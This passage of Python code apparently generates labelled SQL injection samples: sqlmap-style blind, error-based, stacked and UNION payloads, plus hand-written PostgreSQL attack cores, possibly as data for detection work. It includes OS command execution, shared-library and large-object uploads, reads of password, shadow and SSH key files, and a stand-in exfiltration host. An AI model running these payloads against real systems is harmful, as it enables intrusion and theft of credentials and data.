     ("PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", "PostgreSQL", "sqlmap_boolean_blind", "cond-neg",
      "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (c, chrs(S)), False),
     ("PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_boolean_blind", "order",
      ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % c, False),
     ("PostgreSQL boolean-based blind - ORDER BY clause (original value)", "PostgreSQL", "sqlmap_boolean_blind", "order",
      ",(SELECT (CASE WHEN (%s) THEN %%ORIG%% ELSE 1/(SELECT 0) END))" % c, False),
     ("PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", "PostgreSQL", "sqlmap_boolean_blind", "order",
      ",(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, c), False),
     ("PostgreSQL boolean-based blind - Parameter replace", "PostgreSQL", "sqlmap_boolean_blind", "repl",
      "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END))" % (c, R), False),
     ("PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", "PostgreSQL", "sqlmap_boolean_blind", "repl",
      "(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, c), False),
     ("PostgreSQL boolean-based blind - Stacked queries", "PostgreSQL", "sqlmap_boolean_blind", "stack",
      ";SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END)" % (c, R), True),
     ("PostgreSQL boolean-based blind - Stacked queries (GENERATE_SERIES)", "PostgreSQL", "sqlmap_boolean_blind", "stack",
      ";SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1" % (R, R, c), True),
     ("HAVING boolean-based blind - WHERE, GROUP BY clause", "generic", "sqlmap_boolean_blind", "cond", "HAVING %s" % c, False),
     ("MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "MySQL", "sqlmap_boolean_blind", "cond",
      "RLIKE (SELECT (CASE WHEN (%s) THEN 0x%s ELSE 0x28 END))" % (c, S.encode().hex()), False),
     ("MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "MySQL", "sqlmap_boolean_blind", "cond",
      "AND MAKE_SET(%s,%d)" % (c, R), False),
     ("MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (ELT)", "MySQL", "sqlmap_boolean_blind", "cond-neg",
      "OR ELT(%s,%d)" % (c, R), False),
     ("Microsoft SQL Server/Sybase AND boolean-based blind - WHERE or HAVING clause (IIF)", "Microsoft SQL Server", "sqlmap_boolean_blind", "cond",
      "AND %d=IIF((%s),%d,1/0)" % (R, c, R), False),
     ("Oracle AND boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "Oracle", "sqlmap_boolean_blind", "cond",
      "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,%d) END) FROM DUAL) IS NULL" % (c, R), False),
     ("SQLite AND boolean-based blind - WHERE, HAVING, GROUP BY or HAVING clause (JSON)", "SQLite", "sqlmap_boolean_blind", "cond",
      "AND CASE WHEN %s THEN %d ELSE JSON(CHAR(%s)) END" % (c, R, ",".join(str(ord(x)) for x in S)), False),
     ("Informix AND boolean-based blind - WHERE or HAVING clause", "Informix", "sqlmap_boolean_blind", "cond",
      "AND %d=(SELECT (CASE WHEN (%s) THEN %d ELSE 0 END) FROM SYSMASTER:SYSDUAL)" % (R, c, R), False),
     # time-based blind
     ("PostgreSQL > 8.1 AND time-based blind", "PostgreSQL", "sqlmap_time_blind", "cond",
      ("AND %d=(CASE WHEN (%s) THEN (SELECT %d FROM PG_SLEEP(%d)) ELSE %d END)" % (R, c, R, ST, R)) if vector else "AND %d=(SELECT %d FROM PG_SLEEP(%d))" % (R, R, ST), False),
     ("PostgreSQL > 8.1 AND time-based blind (comment)", "PostgreSQL", "sqlmap_time_blind", "cond", "AND %d=(SELECT %d FROM PG_SLEEP(%d))" % (R, R, ST), True),
     ("PostgreSQL > 8.1 OR time-based blind", "PostgreSQL", "sqlmap_time_blind", "cond-neg", "OR %d=(SELECT %d FROM PG_SLEEP(%d))" % (R, R, ST), False),
     ("PostgreSQL > 8.1 OR time-based blind (comment)", "PostgreSQL", "sqlmap_time_blind", "cond-neg", "OR %d=(SELECT %d FROM PG_SLEEP(%d))" % (R, R, ST), True),
     ("PostgreSQL AND time-based blind (heavy query)", "PostgreSQL", "sqlmap_time_blind", "cond", "AND %d=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%d))" % (R, HV), False),
     ("PostgreSQL AND time-based blind (heavy query - comment)", "PostgreSQL", "sqlmap_time_blind", "cond", "AND %d=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%d))" % (R, HV), True),
     ("PostgreSQL OR time-based blind (heavy query)", "PostgreSQL", "sqlmap_time_blind", "cond-neg", "OR %d=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%d))" % (R, HV), False),
     ("PostgreSQL > 8.1 time-based blind - Parameter replace", "PostgreSQL", "sqlmap_time_blind", "repl",
      ("(CASE WHEN (%s) THEN (SELECT %d FROM PG_SLEEP(%d)) ELSE %d END)" % (c, R, ST, R)) if vector else "(SELECT %d FROM PG_SLEEP(%d))" % (R, ST), False),
     ("PostgreSQL time-based blind - Parameter replace (heavy query)", "PostgreSQL", "sqlmap_time_blind", "repl", "(SELECT COUNT(*) FROM GENERATE_SERIES(1,%d))" % HV, False),
     ("PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_time_blind", "order", ",(SELECT %d FROM PG_SLEEP(%d))" % (R, ST), False),
     ("PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", "PostgreSQL", "sqlmap_time_blind", "order",
      ",(SELECT COUNT(*) FROM GENERATE_SERIES(1,%d))" % HV, False),
     ("MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "MySQL", "sqlmap_time_blind", "cond", "AND (SELECT %d FROM (SELECT(SLEEP(%d)))%s)" % (R, ST, S), False),
     ("MySQL >= 5.0.12 OR time-based blind (SLEEP)", "MySQL", "sqlmap_time_blind", "cond-neg", "OR SLEEP(%d)" % ST, False),
     ("MySQL >= 5.0.12 AND time-based blind (SLEEP - comment)", "MySQL", "sqlmap_time_blind", "cond", "AND SLEEP(%d)" % ST, True),
     ("MySQL >= 5.0.12 RLIKE time-based blind", "MySQL", "sqlmap_time_blind", "cond", "RLIKE SLEEP(%d)" % ST, False),
     ("MySQL < 5.0.12 AND time-based blind (BENCHMARK)", "MySQL", "sqlmap_time_blind", "cond", "AND %d=BENCHMARK(%d000000,MD5(0x%s))" % (R, ST, S.encode().hex()), False),
     ("MySQL >= 5.0.12 AND time-based blind (IF)", "MySQL", "sqlmap_time_blind", "cond", "AND %d=IF((%s),SLEEP(%d),%d)" % (R, c, ST, R), False),
     ("Microsoft SQL Server/Sybase time-based blind (IF)", "Microsoft SQL Server", "sqlmap_time_blind", "cond", "WAITFOR DELAY '0:0:%d'" % ST, False),
     ("Microsoft SQL Server/Sybase time-based blind (IF - comment)", "Microsoft SQL Server", "sqlmap_time_blind", "cond", "WAITFOR DELAY '0:0:%d'" % ST, True),
     ("Microsoft SQL Server/Sybase AND time-based blind (heavy query)", "Microsoft SQL Server", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5,sysusers AS sys6,sysusers AS sys7)" % R, False),
     ("Oracle AND time-based blind", "Oracle", "sqlmap_time_blind", "cond", "AND %d=DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (R, chrs(S)[1:-1], ST), False),
     ("Oracle OR time-based blind (comment)", "Oracle", "sqlmap_time_blind", "cond-neg", "OR %d=DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (R, chrs(S)[1:-1], ST), True),
     ("SQLite > 2.0 AND time-based blind (heavy query)", "SQLite", "sqlmap_time_blind", "cond",
      "AND %d=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % (R, ST), False),
     ("Firebird >= 2.0 AND time-based blind (heavy query)", "Firebird", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3,RDB$FUNCTIONS AS T4)" % R, False),
     ("IBM DB2 AND time-based blind (heavy query)", "IBM DB2", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)" % R, False),
     ("SAP MaxDB AND time-based blind (heavy query)", "SAP MaxDB", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2,DOMAIN.TABLES AS T3)" % R, False),
     ("HSQLDB > 2.0 AND time-based blind (heavy query)", "HSQLDB", "sqlmap_time_blind", "cond",
      "AND CHAR(%d)=REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY(CHAR(65),NULL),0),%d00000000),NULL)" % (R, ST), False),
     # error-based
     ("PostgreSQL AND error-based - WHERE or HAVING clause", "PostgreSQL", "sqlmap_error_based", "cond",
      "AND %d=CAST(%s||%s::text||%s AS NUMERIC)" % (R, chrs(M1), extract, chrs(M2)), False),
     ("PostgreSQL AND error-based - WHERE or HAVING clause (literal delimiters)", "PostgreSQL", "sqlmap_error_based", "cond",
      "AND %d=CAST('%s'||%s::text||'%s' AS NUMERIC)" % (R, M1, extract, M2), False),
     ("PostgreSQL OR error-based - WHERE or HAVING clause", "PostgreSQL", "sqlmap_error_based", "cond-neg",
      "OR %d=CAST(%s||%s::text||%s AS NUMERIC)" % (R, chrs(M1), extract, chrs(M2)), False),
     ("PostgreSQL error-based - Parameter replace", "PostgreSQL", "sqlmap_error_based", "repl",
      "(CAST(%s||%s::text||%s AS NUMERIC))" % (chrs(M1), extract, chrs(M2)), False),
     ("PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", "PostgreSQL", "sqlmap_error_based", "repl",
      "(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (chrs(M1), R, R, c, chrs(M2)), False),
     ("PostgreSQL error-based - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_error_based", "order",
      ",(CAST(%s||%s::text||%s AS NUMERIC))" % (chrs(M1), extract, chrs(M2)), False),
     ("PostgreSQL error-based - Stacked queries", "PostgreSQL", "sqlmap_error_based", "stack",
      ";SELECT CAST(%s||%s::text||%s AS NUMERIC)" % (chrs(M1), extract, chrs(M2)), True),
     ("MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "MySQL", "sqlmap_error_based", "cond",
      "AND EXTRACTVALUE(%d,CONCAT(0x5c,0x%s,(SELECT (ELT(%d=%d,1))),0x%s))" % (R, M1.encode().hex(), R2, R2, M2.encode().hex()), False),
     ("MySQL >= 5.1 OR error-based - WHERE or HAVING clause (UPDATEXML)", "MySQL", "sqlmap_error_based", "cond-neg",
      "OR UPDATEXML(%d,CONCAT(0x2e,0x%s,(SELECT (ELT(%d=%d,1))),0x%s),%d)" % (R, M1.encode().hex(), R2, R2, M2.encode().hex(), R3), False),
     ("MySQL >= 5.0 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)", "MySQL", "sqlmap_error_based", "cond",
      "AND (SELECT %d FROM(SELECT COUNT(*),CONCAT(0x%s,(SELECT (ELT(%d=%d,1))),0x%s,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)" % (R, M1.encode().hex(), R2, R2, M2.encode().hex()), False),
     ("MySQL >= 5.7.8 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (JSON_KEYS)", "MySQL", "sqlmap_error_based", "cond",
      "AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x%s,(SELECT (ELT(%d=%d,1))),0x%s)) USING utf8)))" % (M1.encode().hex(), R, R, M2.encode().hex()), False),
     ("Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (IN)", "Microsoft SQL Server", "sqlmap_error_based", "cond",
      "AND %d IN (SELECT (CHAR(%s)+(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(%s)))" % (R, ")+CHAR(".join(str(ord(x)) for x in M1), R2, R2, ")+CHAR(".join(str(ord(x)) for x in M2)), False),
     ("Microsoft SQL Server/Sybase OR error-based - WHERE or HAVING clause (CONVERT)", "Microsoft SQL Server", "sqlmap_error_based", "cond-neg",
      "OR %d=CONVERT(INT,(SELECT CHAR(%s)+(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(%s)))" % (R, ")+CHAR(".join(str(ord(x)) for x in M1), R2, R2, ")+CHAR(".join(str(ord(x)) for x in M2)), False),
     ("Oracle AND error-based - WHERE or HAVING clause (XMLType)", "Oracle", "sqlmap_error_based", "cond",
      "AND %d=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(REPLACE(REPLACE(REPLACE(REPLACE((SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL),CHR(32),CHR(%d)),CHR(36),CHR(%d)),CHR(64),CHR(%d)),CHR(35),CHR(%d)))||%s||CHR(62))) FROM DUAL)"
      % (R, chrs(M1)[1:-1], R2, R2, r.randint(97, 122), r.randint(97, 122), r.randint(97, 122), r.randint(97, 122), chrs(M2)[1:-1]), False),
     ("Oracle OR error-based - WHERE or HAVING clause (UTL_INADDR.GET_HOST_ADDRESS)", "Oracle", "sqlmap_error_based", "cond-neg",
      "OR %d=UTL_INADDR.GET_HOST_ADDRESS(%s||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)||%s)" % (R, chrs(M1)[1:-1], R2, R2, chrs(M2)[1:-1]), False),
     ("Firebird OR error-based - WHERE or HAVING clause", "Firebird", "sqlmap_error_based", "cond-neg",
      "OR %d=('%s'||(SELECT CASE %d WHEN %d THEN 1 ELSE 0 END FROM RDB$DATABASE)||'%s')" % (R, M1, R2, R2, M2), False),
     ("IBM DB2 OR error-based - WHERE or HAVING clause", "IBM DB2", "sqlmap_error_based", "cond-neg",
      "OR %d=RAISE_ERROR('70001','%s'||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM SYSIBM.SYSDUMMY1)||'%s')" % (R, M1, R2, R2, M2), False),
     ("MonetDB AND error-based - WHERE or HAVING clause", "MonetDB", "sqlmap_error_based", "cond",
      "AND %d=('%s'||(SELECT CASE %d WHEN %d THEN CODE(49) ELSE CODE(48) END)||'%s')" % (R, M1, R2, R2, M2), False),
     # stacked queries
     ("PostgreSQL > 8.1 stacked queries (comment)", "PostgreSQL", "sqlmap_stacked_queries", "stack",
      (";SELECT (CASE WHEN (%s) THEN (SELECT %d FROM PG_SLEEP(%d)) ELSE %d END)" % (c, R, ST, R)) if vector else ";SELECT PG_SLEEP(%d)" % ST, True),
     ("PostgreSQL > 8.1 stacked queries", "PostgreSQL", "sqlmap_stacked_queries", "stack", ";SELECT PG_SLEEP(%d)" % ST, False),
     ("PostgreSQL stacked queries (heavy query - comment)", "PostgreSQL", "sqlmap_stacked_queries", "stack", ";SELECT COUNT(*) FROM GENERATE_SERIES(1,%d)" % HV, True),
     ("PostgreSQL < 8.2 stacked queries (Glibc - comment)", "PostgreSQL", "sqlmap_stacked_queries", "stack",
      ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % ST, True),
     ("PostgreSQL takeover - output table (--os-cmd)", "PostgreSQL", "sqlmap_stacked_queries", "stack",
      ";DROP TABLE IF EXISTS sqlmapoutput;CREATE TABLE sqlmapoutput(data text);COPY sqlmapoutput FROM PROGRAM '%s'" % r.choice(["id", "whoami", "uname -a", "cat /etc/os-release", "hostname -I"]), True),
     ("PostgreSQL takeover - UDF (sys_eval)", "PostgreSQL", "sqlmap_stacked_queries", "stack",
      ";CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/libs%s.so','sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % rword(r, 5), True),
     ("PostgreSQL takeover - large object upload", "PostgreSQL", "sqlmap_stacked_queries", "stack",
      ";SELECT lo_create(%d);INSERT INTO pg_largeobject VALUES (%d, 0, DECODE('f0VMRgIBAQAAAAAAAAAAAAMAPgAB','base64'));SELECT lo_export(%d, '/tmp/libs%s.so')" % (R, R, R, rword(r, 5)), True),
     ("PostgreSQL takeover - file read (--file-read)", "PostgreSQL", "sqlmap_stacked_queries", "stack",
      ";DROP TABLE IF EXISTS sqlmapfile;CREATE TABLE sqlmapfile(data text);COPY sqlmapfile FROM '%s'" % r.choice(["/etc/passwd", "/var/lib/postgresql/data/pg_hba.conf", "/proc/version"]), True),
     ("Microsoft SQL Server/Sybase stacked queries (comment)", "Microsoft SQL Server", "sqlmap_stacked_queries", "stack", ";WAITFOR DELAY '0:0:%d'" % ST, True),
     ("Microsoft SQL Server/Sybase stacked queries (xp_cmdshell)", "Microsoft SQL Server", "sqlmap_stacked_queries", "stack",
      ";EXEC master..xp_cmdshell 'ping -n %d 127.0.0.1'" % ST, True),
     ("MySQL >= 5.0.12 stacked queries (comment)", "MySQL", "sqlmap_stacked_queries", "stack", ";SELECT SLEEP(%d)" % ST, True),
     ("Oracle stacked queries (DBMS_SESSION.SLEEP - comment)", "Oracle", "sqlmap_stacked_queries", "stack", ";BEGIN DBMS_SESSION.SLEEP(%d); END" % ST, True),
     ("SQLite > 2.0 stacked queries (heavy query - comment)", "SQLite", "sqlmap_stacked_queries", "stack",
      ";SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % ST, True),
     # inline queries
     ("PostgreSQL inline queries", "PostgreSQL", "sqlmap_inline_query", "repl", "(SELECT %s||%s::text||%s)" % (chrs(M1), extract, chrs(M2)), False),
     ("Generic inline queries", "generic", "sqlmap_inline_query", "repl",
      "(SELECT CONCAT(CONCAT('%s',(CASE WHEN (%d=%d) THEN '1' ELSE '0' END)),'%s'))" % (M1, R, R, M2), False),
     ("MySQL inline queries", "MySQL", "sqlmap_inline_query", "repl", "(SELECT CONCAT(0x%s,(ELT(%d=%d,1)),0x%s))" % (M1.encode().hex(), R, R, M2.encode().hex()), False),
     ("Microsoft SQL Server/Sybase inline queries", "Microsoft SQL Server", "sqlmap_inline_query", "repl",
      "(SELECT CHAR(%s)+(CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END)+CHAR(%s))" % (")+CHAR(".join(str(ord(x)) for x in M1), R, R, ")+CHAR(".join(str(ord(x)) for x in M2)), False),
     ("Oracle inline queries", "Oracle", "sqlmap_inline_query", "repl",
      "(SELECT %s||(CASE WHEN (%d=%d) THEN 1 ELSE 0 END)||%s FROM DUAL)" % (chrs(M1)[1:-1], R, R, chrs(M2)[1:-1]), False),
    ]
    return [(t, d, f, k, p, cm, mode) for t, d, f, k, p, cm in out]


def union_payload(r):
    """sqlmap UNION query technique: column count probe, marker arm or data dump."""
    n = r.randint(1, 12)
    pos = r.randrange(n)
    M1, M2, M3 = mark(r), mark(r), mark(r)
    style = r.randrange(6)
    filler = r.choice(["NULL", "NULL", "NUM"])
    dbms = "PostgreSQL"
    fill = lambda: "NULL" if filler == "NULL" else str(randnum(r))
    cols = [fill() for _ in range(n)]
    if style == 0:
        return "Generic UNION query - ORDER BY column probing", "generic", "ORDER BY %d" % r.randint(1, 30)
    if style == 1:
        cols[pos] = "%s||%s||%s" % (chrs(M1), chrs(rword(r, 10, upper=True)), chrs(M2))
    elif style == 2:
        cols[pos] = "'%s'||'%s'||'%s'" % (M1, rword(r, 12), M2)
        dbms = "generic"
    elif style == 3:
        src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_user", ["usename", "usesuper"]), ("pg_database", ["datname"]),
                        ("pg_tables", ["schemaname", "tablename"]), ("public." + r.choice(APP_TABLES), None)])
        tcols = src[1] or APP_COLS[src[0][7:]]
        parts = [chrs(M1)]
        for i, cname in enumerate(tcols):
            if i:
                parts.append(chrs(M3))
            parts.append("COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % cname)
        parts.append(chrs(M2))
        cols[pos] = "||".join(parts)
        kw = r.choice(["UNION ALL SELECT", "UNION ALL SELECT", "UNION SELECT"])
        return ("Generic UNION query (%s) - %d columns (data extraction)" % ("NULL" if filler == "NULL" else "random number", n), dbms,
                "%s %s FROM %s" % (kw, ",".join(cols), src[0]))
    elif style == 4:
        cols[pos] = "CONCAT(0x%s,0x%s,0x%s)" % (M1.encode().hex(), rword(r, 10).encode().hex(), M2.encode().hex())
        dbms = "MySQL"
    else:
        cols[pos] = "%s||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))::text||%s" % (chrs(M1), randnum(r), randnum(r), chrs(M2))
    kw = r.choice(["UNION ALL SELECT", "UNION ALL SELECT", "UNION SELECT"])
    lo = (n - 1) // 10 * 10 + 1
    return ("%s UNION query (%s) - %d to %d columns" % ("MySQL" if dbms == "MySQL" else "Generic", "NULL" if filler == "NULL" else "random number", lo, lo + 9),
            dbms, "%s %s" % (kw, ",".join(cols)))


# ---------------------------------------------------------------- wrapping a payload into a slot
def wrap(r, si, orig, kind, P, need_comment=False, mysql=False, careful=False):
    """Turn a payload into what the user typed for a slot.  kind: cond | cond-neg |
    repl | repl-orig | order | stack | union | concat.  Returns None when the
    kind does not fit the slot.  careful: a hand-made breakout (right closing
    sequence, a valid ending); otherwise sqlmap-like, which also tries wrong
    boundaries."""
    typ, depth = si["type"], si["depth"]
    tail = lambda: comment(r, mysql, careful)
    if typ in STRING_TYPES:
        cl = CLOSER[typ]
        k = depth if careful or r.random() < 0.9 else r.choice([x for x in range(3) if x != depth])
        inside = careful and depth and kind in ("cond", "cond-neg") and r.random() < 0.85
        if inside:
            k = 0       # stay inside the parentheses and rebalance the quote
        o = orig
        if kind == "cond-neg" and r.random() < 0.6:
            o = "-%d" % randnum(r)
        elif r.random() < 0.12:
            o = ""
        if si["like_after"] and r.random() < 0.6:
            o += "%"
        pre = o + cl + ")" * k
        if kind in ("repl", "repl-orig", "concat"):
            if typ == "qi":
                return o + '", ' + P + ' AS "' + rword(r, 3)
            if r.random() < 0.65 or kind == "concat":
                return ("" if r.random() < 0.5 else o) + cl + "||" + P + "||" + cl
            return o + cl + "||" + P + tail()
        if kind == "order":
            return None
        if typ == "qi":
            if kind == "stack":
                return o + '"' + P + tail()
            if kind == "union":
                return o + '" ' + P + tail()
            return o + '" WHERE %d=%d ' % ((lambda x: (x, x))(randnum(r))) + P + tail()
        if kind == "stack":
            body = pre + P
            if need_comment or careful or r.random() < 0.8:
                return body + tail()
            if cl == "'" and r.random() < 0.5:
                return body + ";SELECT " + "(" * k + "'" + rword(r, 4)
            return body
        body = pre + " " + P
        if need_comment or kind == "union":
            return body + (" " if r.random() < 0.2 else "") + tail()
        x = 0 if inside else r.random()
        if cl == "'" and x < 0.55:
            w = rword(r, 4, upper=r.random() < 0.5)
            if si["like_after"] and o.endswith("%"):
                return body + " AND " + "(" * k + "'%s%%'='%s" % (w, w)
            if r.random() < 0.8:
                return body + " AND " + "(" * k + "'%s'='%s" % (w, w)
            return body + " AND " + "(" * k + "'%s' LIKE '%s" % (w, w)
        if x < 0.95 or careful:
            return body + tail()
        return body
    if typ in ("n", "list", "bool"):
        o = orig
        if kind == "cond-neg" and r.random() < 0.7:
            o = "-%d" % randnum(r) if typ != "bool" else "false"
        k = depth if (depth and (careful and kind not in ("cond", "cond-neg") or r.random() < 0.5)) else (1 if not careful and r.random() < 0.04 else 0)
        if kind in ("repl", "repl-orig"):
            return P
        if kind == "concat":
            return o + r.choice(["+length((%s)::text)", "-ascii((%s)::text)", "*sign(length((%s)::text))"]) % P
        if kind == "order":
            return None
        pre = o + ")" * k
        if kind == "stack":
            return pre + P + (tail() if need_comment or careful or r.random() < 0.6 or k else "")
        body = pre + " " + P
        if need_comment or kind == "union":
            return body + ("" if kind == "union" and not k and r.random() < 0.3 else tail())
        if k and r.random() < 0.5:
            return body + " AND " + "(" * k + "%d=%d" % ((lambda x: (x, x))(randnum(r)))
        if k or si["tail_means"] and r.random() < 0.5:
            return body + tail()
        return body
    if typ in ("col", "dir"):
        o = orig
        if kind == "order":
            return o + P + ("" if r.random() < 0.55 else tail())
        if kind in ("repl", "repl-orig"):
            return P if typ == "col" else None
        if kind == "stack":
            return o + P + (tail() if need_comment or r.random() < 0.6 else "")
        if kind in ("cond", "cond-neg", "union") and r.random() < 0.35:
            return o + " " + P + tail()
        return None
    if typ == "ident":
        if kind == "stack":
            return orig + P + (tail() if need_comment or r.random() < 0.5 else "")
        return None
    return None


# ---------------------------------------------------------------- hand-written PostgreSQL cores
# mode: cond (AND/OR clause) | stack (statement after ;) | union | repl (value) | concat (value spliced with ||)
def hand_cores(r):
    a, b = r.randint(2, 60), r.randint(61, 900)
    w = rword(r, 5)
    W = w.upper()
    sl = r.choice([4, 5, 6, 8, 12])
    host = r.choice(["exfil", "oob", "c2", "cb"]) + rword(r, 3) + "." + r.choice(["attacker.example", "example.net", "evil.example"])
    tbl = r.choice(APP_TABLES)
    path = r.choice(["/etc/passwd", "/etc/shadow", "pg_hba.conf", "postgresql.conf", "/proc/self/cmdline", "/root/.ssh/id_rsa", "../../../../etc/hosts", "/var/lib/postgresql/.pgpass"])
    loid = r.randint(16384, 99999)
    C = {
     "tautology": [
        ("or_le", "cond", "OR %d <= %d" % (a, b)), ("or_regex", "cond", "OR '%s' ~ '%s'" % (w, w[1:3])), ("or_is_true", "cond", "OR true IS TRUE"),
        ("or_mod", "cond", "OR %d %% 3 = %d" % (a, a % 3)), ("or_abs", "cond", "OR abs(-%d) = %d" % (a, a)), ("or_str_lt", "cond", "OR 'a' < 'b'"),
        ("or_all", "cond", "OR %d = ALL(ARRAY[%d,%d])" % (a, a, a)), ("or_smallint", "cond", "OR %d = %d::smallint" % (a, a)),
        ("or_octet_len", "cond", "OR octet_length('%s') = %d" % (w, len(w))), ("or_not_eq", "cond", "OR NOT (%d = %d)" % (a, b)),
        ("or_on_bool", "cond", "OR 'on'::bool"), ("or_range", "cond", "OR int4range(1,%d) @> %d" % (b, a)), ("or_in_select", "cond", "OR %d IN (SELECT %d)" % (a, a)),
        ("or_empty_not_null", "cond", "OR '' IS NOT NULL"), ("or_ilike", "cond", "OR '%s' ILIKE '%s'" % (w, W)), ("or_ne", "cond", "OR %d != %d" % (b, a)),
        ("or_arith", "cond", "OR (%d*%d)=%d" % (a, 3, a * 3)), ("or_position", "cond", "OR position('%s' in '%s') > 0" % (w[2], w)),
        ("or_now_past", "cond", "OR now() > '2001-01-01'"), ("or_coalesce", "cond", "OR coalesce(NULL, %d) = %d" % (a, a)),
        ("or_quote_eq", "cond", "OR ''=''"), ("or_greatest", "cond", "OR greatest(%d, %d) = %d" % (a, b, b)), ("or_bool_and", "cond", "OR (true AND NOT false)"),
        ("or_concat_eq", "cond", "OR '%s'||'%s' = '%s'" % (w[:2], w[2:], w)), ("or_digit_str", "cond", "OR '%d'::int = %d" % (a, a))],
     "boolean_blind": [
        ("rolsuper", "cond", "AND (SELECT rolsuper FROM pg_roles WHERE rolname = current_user)"),
        ("activity_count", "cond", "AND (SELECT count(*) FROM pg_stat_activity) > %d" % r.randint(2, 40)),
        ("is_superuser_setting", "cond", "AND current_setting('is_superuser') = 'on'"),
        ("server_addr_prefix", "cond", "AND left(inet_server_addr()::text, 3) = '%s'" % r.choice(["10.", "172", "192"])),
        ("newest_table", "cond", "AND (SELECT relname FROM pg_class WHERE relkind = 'r' ORDER BY oid DESC LIMIT 1) LIKE '%s%%'" % w[0]),
        ("authid_priv", "cond", "AND has_table_privilege('pg_authid', 'SELECT')"),
        ("read_files_role", "cond", "AND pg_has_role(current_user, 'pg_read_server_files', 'member')"),
        ("port_probe", "cond", "AND (SELECT setting FROM pg_settings WHERE name = 'port') = '%s'" % r.choice(["5432", "5433", "6432"])),
        ("dblink_installed", "cond", "AND EXISTS(SELECT 1 FROM pg_extension WHERE extname = '%s')" % r.choice(["dblink", "plpython3u", "adminpack", "pg_stat_statements"])),
        ("hash_char", "cond", "AND (SELECT substring(passwd from %d for 1) FROM pg_shadow LIMIT 1) = '%s'" % (r.randint(4, 30), r.choice("0123456789abcdef"))),
        ("hex_db_char", "cond", "AND to_hex(ascii(substr(current_database(), %d, 1))) = '%x'" % (r.randint(1, 8), r.randint(97, 122))),
        ("version_regex", "cond", "AND version() ~ '^PostgreSQL 1[%d-7]'" % r.randint(2, 6)),
        ("card_probe", "cond", "AND (SELECT count(*) FROM %s) > %d" % (tbl, r.choice([0, 10, 100, 1000])))],
     "time_pg_sleep": [
        ("sleep_is_not_null", "cond", "AND (SELECT pg_sleep(%d)) IS NOT NULL" % sl), ("count_sleep", "cond", "OR 0 < (SELECT count(*) FROM pg_sleep(%d))" % sl),
